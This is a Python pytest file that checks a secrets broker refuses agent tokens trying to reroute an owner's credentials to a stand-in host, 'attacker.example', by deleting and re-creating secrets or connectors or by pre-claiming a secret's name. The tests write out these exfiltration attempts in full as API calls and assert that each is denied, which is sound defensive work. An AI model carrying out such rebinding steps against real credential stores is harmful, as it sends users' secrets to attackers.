"""Who may say where a secret goes: an agent token never, not even by deleting and re-creating the secret
or the connector, or by writing a name before its owner does (found by an attack on issue 12's first fix).

A policy outlives the version it came with (the next version written without one keeps it), and a policy
naming a connector binds to that connector's origin when it is written; so an agent able to set a policy
on any name, or to define a connector anywhere, would choose where the owner's next value goes. The
exfiltration target is the loopback upstream, reached through a transport that forwards every host to it.
"""

from __future__ import annotations

import secrets
from typing import Any

import pytest
from _strongroom_server_fixtures import Service

ATTACKER = "https://attacker.example"
CRM = "https://api.crm.example"


@pytest.fixture
def service(any_host_service: Service) -> Service:
    """The attack runs against a broker that reaches "any host" at the loopback upstream (the conftest)."""
    return any_host_service


def _connector(base_url: str, secret: str) -> dict[str, Any]:
    return {
        "base_url": base_url,
        "description": "A connector the caller defined",
        "credential": {"kind": "bearer", "secret": secret},
        "operations": [{"id": "collect", "method": "GET", "path": "/anything", "summary": "Collect"}],
    }


def _agent(s: Service, scopes: list[str]) -> str:
    issued = s.client.post("/v1/tokens", json={"scopes": scopes, "subject": "agent"}, headers=s.auth(s.a.key))
    assert issued.status_code == 201, issued.text
    token: str = issued.json()["access_token"]
    return token


def _denied(s: Service, actor: str) -> list[str]:
    s.app.state.strongroom.refusals.flush()
    s.vault.flush_audit()
    events = s.vault.audit_events(tenant=s.a.name, actor=actor)
    return [e.action for e in events if e.outcome == "denied"]


@pytest.mark.parametrize("purge", [False, True])
def test_a_token_cannot_rebind_a_secret_by_deleting_and_re_creating_it(
    service: Service, make_canary: Any, purge: bool
) -> None:
    """The token deletes the owner's CRM credential and writes it again with its own host as the policy:
    refused. The owner's next rotation keeps the CRM-only policy; the token's connector to its host is
    refused; the rotated value never reaches the attacker."""
    s, t = service, service.a.name
    first, rotated = make_canary("crm-v1"), make_canary("crm-v2")
    put = s.client.put(
        f"/v1/tenants/{t}/secrets/crm_key",
        json={"value": first, "destinations": [{"origin": CRM, "placements": ["bearer"]}]},
        headers=s.auth(s.a.key),
    )
    assert put.status_code == 200, put.text
    token = _agent(s, ["secrets:write", "secrets:delete", "connectors:write", "actions:invoke"])
    gone = s.client.delete(
        f"/v1/tenants/{t}/secrets/crm_key", params={"purge": str(purge).lower()}, headers=s.auth(token)
    )
    assert gone.status_code == 204
    again = s.client.put(
        f"/v1/tenants/{t}/secrets/crm_key",
        json={
            "value": "placeholder-" + secrets.token_hex(8),
            "destinations": [{"origin": ATTACKER, "placements": ["bearer"]}],
        },
        headers=s.auth(token),
    )
    s.assert_error(again, 403, code="forbidden")
    rotate = s.client.put(f"/v1/tenants/{t}/secrets/crm_key", json={"value": rotated}, headers=s.auth(s.a.key))
    assert rotate.status_code == 200, rotate.text
    assert [d["origin"] for d in rotate.json()["destinations"]] == [CRM]
    exfil = s.client.put(
        f"/v1/tenants/{t}/connectors/exfil", json=_connector(ATTACKER, "crm_key"), headers=s.auth(token)
    )
    s.assert_error(exfil, 403, code="forbidden")
    s.client.get("/v1/actions/exfil/anything", headers=s.auth(token))
    assert rotated not in s.upstream.seen_text(), "the owner's rotated credential reached the attacker's host"
    assert {"secret.policy", "connector.put"} <= set(_denied(s, "token:agent"))


def test_a_token_cannot_move_a_connector_by_deleting_and_re_creating_it(service: Service, make_canary: Any) -> None:
    """Moving a connector needs destinations:write; deleting it and defining it anew elsewhere is the same
    move, refused, so a policy the owner then binds to the connector by name never names the attacker."""
    s, t = service, service.a.name
    made = s.client.put(f"/v1/tenants/{t}/connectors/crm", json=_connector(CRM, "crm_key"), headers=s.auth(s.a.key))
    assert made.status_code == 200, made.text
    token = _agent(s, ["connectors:write", "actions:invoke"])
    moved = s.client.put(f"/v1/tenants/{t}/connectors/crm", json=_connector(ATTACKER, "crm_key"), headers=s.auth(token))
    s.assert_error(moved, 403, code="forbidden")
    assert s.client.delete(f"/v1/tenants/{t}/connectors/crm", headers=s.auth(token)).status_code == 204
    again = s.client.put(f"/v1/tenants/{t}/connectors/crm", json=_connector(ATTACKER, "crm_key"), headers=s.auth(token))
    s.assert_error(again, 403, code="forbidden")
    value = make_canary("crm")
    s.client.put(
        f"/v1/tenants/{t}/secrets/crm_key",
        json={"value": value, "destinations": [{"connector": "crm"}]},
        headers=s.auth(s.a.key),
    )
    s.client.get("/v1/actions/crm/anything", headers=s.auth(token))
    assert value not in s.upstream.seen_text(), "the credential reached the attacker's host"
    assert _denied(s, "token:agent").count("connector.put") == 2


def test_a_token_cannot_choose_the_policy_of_a_name_its_owner_writes_later(service: Service, make_canary: Any) -> None:
    """A token writing a name first with its host as the policy is refused; without a policy its write
    stands, and the owner's value written later goes to the operator's connectors only."""
    s, t = service, service.a.name
    token = _agent(s, ["secrets:write", "connectors:write", "actions:invoke"])
    early = s.client.put(
        f"/v1/tenants/{t}/secrets/stripe_key",
        json={
            "value": "placeholder-" + secrets.token_hex(8),
            "destinations": [{"origin": ATTACKER, "placements": ["bearer"]}],
        },
        headers=s.auth(token),
    )
    s.assert_error(early, 403, code="forbidden")
    plain = s.client.put(
        f"/v1/tenants/{t}/secrets/stripe_key",
        json={"value": "placeholder-" + secrets.token_hex(8)},
        headers=s.auth(token),
    )
    assert plain.status_code == 200, plain.text
    value = make_canary("stripe")
    put = s.client.put(f"/v1/tenants/{t}/secrets/stripe_key", json={"value": value}, headers=s.auth(s.a.key))
    assert put.status_code == 200, put.text
    assert put.json()["destinations"] is None  # the operator's declared connectors only
    exfil = s.client.put(
        f"/v1/tenants/{t}/connectors/exfil", json=_connector(ATTACKER, "stripe_key"), headers=s.auth(token)
    )
    s.assert_error(exfil, 403, code="forbidden")
    s.client.get("/v1/actions/exfil/anything", headers=s.auth(token))
    assert value not in s.upstream.seen_text(), "the owner's credential reached the attacker's host"
